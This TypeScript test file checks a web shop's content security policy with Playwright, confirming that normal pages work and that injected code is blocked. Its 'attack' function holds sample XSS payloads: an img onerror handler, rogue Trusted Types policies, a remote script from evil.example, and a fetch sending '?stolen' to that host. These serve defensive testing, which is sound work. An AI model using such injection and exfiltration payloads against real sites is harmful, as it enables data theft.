/** The content policy, enforced: the shop works under it, and what somebody smuggles in does not. */
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { openBrowser, visit, type Visit } from './chromium.ts';
import { pointer } from './hand.ts';
import { fillCart, findPart, openCart } from './order-journey.ts';
import { takeViolations } from './policy-watch.ts';
import { openShop, type Shop } from './shop.ts';
import { wordsOf } from './words.ts';

const t = wordsOf('en');
let browser: Browser;
let shop: Shop;
let visitor: Visit;
let page: Page;
beforeAll(async () => {
  [browser, shop] = await Promise.all([openBrowser(), openShop({ env: { ADMIN: 'on' } })]);
});
afterAll(() => Promise.all([browser.close(), shop.remove()]));
beforeEach(async () => {
  visitor = await visit(browser, { viewport: { width: 1440, height: 900 } });
  page = visitor.page;
});
afterEach(() => visitor.close());

const open = (path: string) => page.goto(`${shop.address('en')}${path}`);

// `policy-check.ts` fails each of these on anything that goes against the policy.
describe('under the policy', () => {
  it('a visitor finds a part, fills the cart and comes to the checkout', async () => {
    const journey = { page, hand: pointer, address: shop.address('en'), language: 'en' } as const;
    await findPart(journey);
    await fillCart(journey);
    await openCart(journey);
    await page.getByRole('link', { name: t('cart:summary.check_out') }).click();
    await page.getByRole('heading', { level: 1, name: t('checkout:title') }).waitFor();
    expect(visitor.errors).toEqual([]);
  });

  it.each([
    '/',
    '/category',
    '/category/capacitors',
    '/manufacturers/yageo',
    '/product/list/10k',
    '/product/chipFindSearch',
    '/user/login',
    '/user/register',
    '/blog',
    '/news',
    '/about/about',
    '/about/contactUs',
    '/other/bom',
    '/other/feedback',
  ])('%s is drawn, and its menus open', async (path) => {
    await open(path);
    await page.locator('footer').waitFor();
    await page.getByRole('combobox', { name: t('common:search.label') }).fill('rc06');
    await page.getByRole('listbox').first().waitFor();
    await page.keyboard.press('Escape');
    expect(visitor.errors).toEqual([]);
  });

  it('an article and a design show the text and the drawings that the server has cleaned', async () => {
    await open('/blog/bench/ripple-and-the-ground-lead');
    await page.locator('article p').first().waitFor();
    await open('/solutions/motion/brushed-dc-drive-24-v');
    await page.locator('figure svg').first().waitFor();
    expect(visitor.errors).toEqual([]);
  });

  it('a calculator computes in its worker, draws its plot and is kept by the service worker', async () => {
    await open('/tool/BroadsideCoupled');
    await page.getByRole('region', { name: 'Result', exact: true }).locator('[data-output] data').first().waitFor();
    await page.locator('main figure svg').first().scrollIntoViewIfNeeded();
    await page.mouse.wheel(0, 2000);
    await page.locator('main [role=slider] svg path').first().waitFor({ state: 'attached' });
    await page.evaluate(async () => void (await navigator.serviceWorker.ready));
    expect(visitor.errors).toEqual([]);
  });

  it('the operator’s page asks for password and code', async () => {
    await open('/admin');
    await page.getByLabel(t('admin:login.code')).waitFor();
  });
});

/** Runs in the page as an injected script would, and gives the names of those ways in that led somewhere. */
function attack(): Promise<string[]> {
  const { trustedTypes } = globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }; // not in the DOM types yet
  const ways: Record<string, () => unknown> = {
    markup: () => document.body.insertAdjacentHTML('beforeend', '<img src="/x" onerror="hacked = 1">'),
    'a policy of its own': () => trustedTypes.createPolicy('mine', {}),
    'a policy of the same name': () => trustedTypes.createPolicy('shop', {}),
    'a script from elsewhere': () => (document.createElement('script').src = 'https://evil.example/x.js'),
    'a script in a file of the shop': () => (document.createElement('script').src = '/api/store/common/file/f1'),
    'a worker from elsewhere': () => new Worker('data:text/javascript,1'),
    // oxlint-disable-next-line no-implied-eval -- that it does not run is the point
    'a text as code': () => setTimeout('hacked = 1'),
    'a call to elsewhere': () => fetch('https://evil.example/?stolen'),
  };
  const tried = Object.entries(ways).map(async ([name, run]) => {
    try {
      await run();
      return [name];
    } catch {
      return [];
    }
  });
  return Promise.all(tried).then((names) => names.flat());
}

/** What the browser has refused; it tells a task later. */
async function refusals(): Promise<string[]> {
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve)));
  return takeViolations();
}

describe('what somebody smuggles in', () => {
  beforeEach(async () => {
    await open('/about/contactUs');
    await page.locator('footer').waitFor();
  });

  it('finds no way to run', async () => {
    expect(await page.evaluate(attack)).toEqual([]);
    expect((await refusals()).length).toBeGreaterThan(7);
  });

  it('does not run as a script, a handler or a style in the document', async () => {
    const hacked = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.append('document.title = "hacked"');
      const button = document.createElement('button');
      button.setAttribute('style', 'position: fixed');
      const style = document.createElement('style');
      style.append('body { display: none }');
      try {
        button.setAttribute('onclick', 'document.title = "hacked"');
      } catch {
        // Trusted Types already refuse the attribute
      }
      document.body.append(script, button, style);
      button.click();
      return { title: document.title, place: getComputedStyle(button).position, display: getComputedStyle(document.body).display };
    });
    expect(hacked).toEqual({ title: expect.not.stringContaining('hacked'), place: 'static', display: 'block' });
    expect((await refusals()).length).toBeGreaterThan(2);
  });

  it('cannot frame the shop', async () => {
    await page.goto('about:blank');
    await page.setContent(`<iframe src="${shop.address('en')}/"></iframe>`);
    await refusals();
    const [, frame] = page.frames();
    expect(await frame?.locator('#app').count()).toBe(0);
  });
});
